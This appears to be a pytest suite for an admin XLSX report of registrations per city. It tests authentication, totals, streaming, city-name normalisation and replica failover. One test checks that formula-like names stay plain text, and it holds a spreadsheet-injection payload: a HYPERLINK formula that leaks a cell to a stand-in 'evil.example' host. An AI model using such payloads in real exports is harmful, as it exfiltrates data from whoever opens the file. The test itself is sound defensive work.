"""The admin XLSX report: authentication, contents, totals, city rules, formula safety."""

import io
import unicodedata
import uuid

import pytest
from openpyxl import load_workbook

from forms import register


def _report(http, stack, **params):
    response = http.get(f"{stack.url}/api/reports/cities.xlsx", params=params, auth=stack.admin, timeout=120)
    assert response.status_code == 200, response.text
    assert response.headers["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    return load_workbook(io.BytesIO(response.content))


def _summary(workbook) -> dict[str, int]:
    rows = list(workbook["Summary"].iter_rows(values_only=True))
    assert rows[0] == ("City", "Total", "Sheet")
    assert rows[-1][0] == "All cities"
    assert all(title in workbook.sheetnames for _, _, title in rows[1:-1])
    return {city: total for city, total, _ in rows[1:-1]}


def _city_rows(workbook, title):
    rows = list(workbook[title].iter_rows(values_only=True))
    assert rows[0] == ("Name", "City", "Registered at (UTC)", "Photo link")
    assert rows[-1][0] == "Total"
    return rows[1:-2], rows[-1][1]


@pytest.mark.parametrize("auth", [None, ("admin", "wrong"), ("root", "x"), ("", "")])
def test_report_requires_admin_credentials(http, stack, auth):
    response = http.get(f"{stack.url}/api/reports/cities.xlsx", auth=auth)
    assert response.status_code == 401
    assert response.headers["WWW-Authenticate"].startswith("Basic")
    assert response.json()["error"]["code"] == "unauthorized"


def test_report_lists_every_registration_per_city_with_totals(http, stack):
    city = f"Ciudad {uuid.uuid4().hex[:8]}"
    ids = [register(http, stack, name=f"Person {n}", city=city).json()["id"] for n in range(3)]
    workbook = _report(http, stack)
    totals = _summary(workbook)
    assert totals[city] == 3
    rows, total = _city_rows(workbook, city)
    assert total == 3
    assert [row[0] for row in rows] == ["Person 0", "Person 1", "Person 2"]  # oldest first
    assert all(row[1] == city for row in rows)
    assert [row[3].rsplit("/", 2)[-2] for row in rows] == ids  # admin photo links, in order
    grand = list(workbook["Summary"].iter_rows(values_only=True))[-1][1]
    assert grand == sum(totals.values())


def test_report_is_streamed_through_nginx_and_the_middleware(http, stack):
    register(http, stack, city=f"Stream {uuid.uuid4().hex[:8]}")
    with http.get(f"{stack.url}/api/reports/cities.xlsx", auth=stack.admin, timeout=120, stream=True) as response:
        assert response.status_code == 200
        # written as it is sent: no length known up front
        assert "Content-Length" not in response.headers
        assert response.headers["Transfer-Encoding"] == "chunked"
        assert response.headers["X-Served-By"].startswith("instance-")
        data = b"".join(response.iter_content(64 * 1024))
    workbook = load_workbook(io.BytesIO(data), read_only=True)
    assert workbook.sheetnames[0] == "Summary"


def test_city_spellings_are_one_city(http, stack):
    base = f"Ríobamba{uuid.uuid4().hex[:6]}"
    decomposed = unicodedata.normalize("NFD", base)  # "i" + combining acute, as some keyboards send it
    assert decomposed != base
    for spelling in (f"  {base.lower()} ", base.upper(), base, decomposed):
        assert register(http, stack, city=spelling).status_code == 201
    totals = _summary(_report(http, stack))
    matching = {name: n for name, n in totals.items() if name.casefold() == base.casefold()}
    assert list(matching.values()) == [4], matching


def test_report_for_one_city_has_only_that_city(http, stack):
    city = f"Solo {uuid.uuid4().hex[:8]}"
    register(http, stack, city=city)
    register(http, stack, city=f"Other {uuid.uuid4().hex[:8]}")
    workbook = _report(http, stack, city=f"  {city.upper()} ")
    assert workbook.sheetnames == ["Summary", city]
    assert _summary(workbook) == {city: 1}


def test_names_that_look_like_formulas_stay_text(http, stack):
    city = f"Formula {uuid.uuid4().hex[:8]}"
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    names = [evil, "+SUM(1,2)", "-Ana+3", "@cmd", "#N/A"]  # the last would become an error cell
    for name in names:
        assert register(http, stack, name=name, city=city).status_code == 201
    workbook = _report(http, stack, city=city)
    cells = [row[0] for row in workbook[city].iter_rows(min_row=2, max_row=len(names) + 1)]
    assert [cell.value for cell in cells] == names
    assert all(cell.data_type == "s" for cell in cells)


def test_sheet_names_are_valid_for_cities_excel_would_refuse(http, stack):
    suffix = uuid.uuid4().hex[:6]
    odd = f"Santa Cruz [Norte]/Sur: {suffix} y una ciudad de nombre muy largo"
    register(http, stack, city=odd[:60])
    workbook = _report(http, stack, city=odd[:60])
    title = workbook.sheetnames[1]
    assert len(title) <= 31 and not set(title) & set("[]:*?/\\")
    rows, total = _city_rows(workbook, title)
    assert total == 1 and rows[0][1] == odd[:60]
    assert list(workbook["Summary"].iter_rows(values_only=True))[1] == (odd[:60], 1, title)
    assert workbook["Summary"]["C2"].hyperlink.location == f"'{title}'!A1"


def test_report_for_a_city_without_registrations_is_empty_not_an_error(http, stack):
    workbook = _report(http, stack, city=f"Nowhere {uuid.uuid4().hex}")
    assert workbook.sheetnames == ["Summary"]
    assert _summary(workbook) == {}


def test_reports_go_through_nginx_and_skip_stopped_replicas(http, stack, stopped):
    stopped("instance-1")
    stopped("instance-2")
    for _ in range(3):  # whichever replica nginx picks first, the report comes from the one that is up
        response = http.get(f"{stack.url}/api/reports/cities.xlsx", auth=stack.admin, timeout=120)
        assert response.status_code == 200
        assert response.headers["X-Served-By"] == "instance-3"
    internal = [
        line
        for line in stack.nginx_log()
        if line["path"] == "/api/reports/cities.xlsx"
        and line["upstream"].endswith(f":{stack.settings.instance_port(3)}")
    ]
    assert internal, "the middleware's report requests did not pass nginx's upstream"
